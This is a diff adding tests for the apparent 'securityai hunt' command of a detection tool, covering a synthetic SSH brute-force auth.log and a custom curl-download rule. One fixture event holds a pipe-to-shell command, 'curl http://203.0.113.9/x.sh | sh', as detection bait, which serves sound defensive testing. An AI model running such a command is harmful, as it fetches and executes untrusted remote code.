@@ -3,11 +3,14 @@ becomes one deduplicated alert (not 200), pushed on the WebSocket, with the
 rule's explanation; rules are managed and tested through the API."""
 
 import json
+import os
 import socket
+import subprocess
+import tempfile
 import time
 import unittest
 
-from harness import Server, WebSocket, wait_for
+from harness import BIN, Server, WebSocket, wait_for
 
 RULE = """title: Test rule - curl downloads
 id: test-curl-download
@@ -128,6 +131,45 @@ class DetectionTest(unittest.TestCase):
         self.assertEqual(status, 204)
         status, _, _ = self.call("GET", "/api/v1/rules/test-curl-download")
         self.assertEqual(status, 404)
+
+
+class HuntTest(unittest.TestCase):
+    """`securityai hunt` over files, as a user retro-hunts an auth.log."""
+
+    AUTH_LOG = "".join(
+        "Nov 29 10:00:%02d bastion-01 sshd[1201]: Failed password for root from 203.0.113.5 port %d ssh2\n"
+        % (i, 40000 + i) for i in range(10)) + (
+        "Nov 29 10:00:11 bastion-01 sshd[1201]: Accepted password for root from 203.0.113.5 port 40011 ssh2\n"
+        "Nov 29 10:01:00 bastion-01 sudo:   alice : 3 incorrect password attempts ; TTY=pts/0 ; "
+        "PWD=/home/alice ; USER=root ; COMMAND=/bin/bash\n")
+
+    def hunt(self, *args):
+        run = subprocess.run([BIN, "hunt", *args], capture_output=True, text=True, timeout=60)
+        return run.returncode, [json.loads(line) for line in run.stdout.splitlines()], run.stderr
+
+    def test_an_auth_log_as_rsyslog_writes_it_with_the_built_in_rules(self):
+        with tempfile.TemporaryDirectory() as tmp:
+            path = os.path.join(tmp, "auth.log")
+            with open(path, "w") as f:
+                f.write(self.AUTH_LOG + "<999>a malformed priority\n")
+            rc, found, err = self.hunt("--input-format", "syslog", path)
+            titles = [d["title"] for d in found]
+            self.assertIn("SSH Brute Force", titles)
+            self.assertIn("SSH Successful Brute Force", titles)
+            self.assertIn("Sudo or Su Authentication Failure", titles)
+            self.assertEqual(titles.count("SSH Failed Login"), 10)
+            self.assertIn("12 events, 1 rejected", err)
+
+    def test_rules_named_replace_the_built_in_pack(self):
+        with tempfile.TemporaryDirectory() as tmp:
+            with open(os.path.join(tmp, "curl.yml"), "w") as f:
+                f.write(RULE)
+            events = os.path.join(tmp, "events.ndjson")
+            with open(events, "w") as f:
+                f.write(json.dumps({"message": "curl http://203.0.113.9/x.sh | sh", "host": "web-1"}) + "\n")
+                f.write(json.dumps({"message": "Failed password for root from 203.0.113.5", "process.name": "sshd"}))
+            rc, found, _ = self.hunt("--rules", tmp, events)
+            self.assertEqual([(d["rule_id"], d["index"]) for d in found], [("test-curl-download", 0)])
 
 
 if __name__ == "__main__":
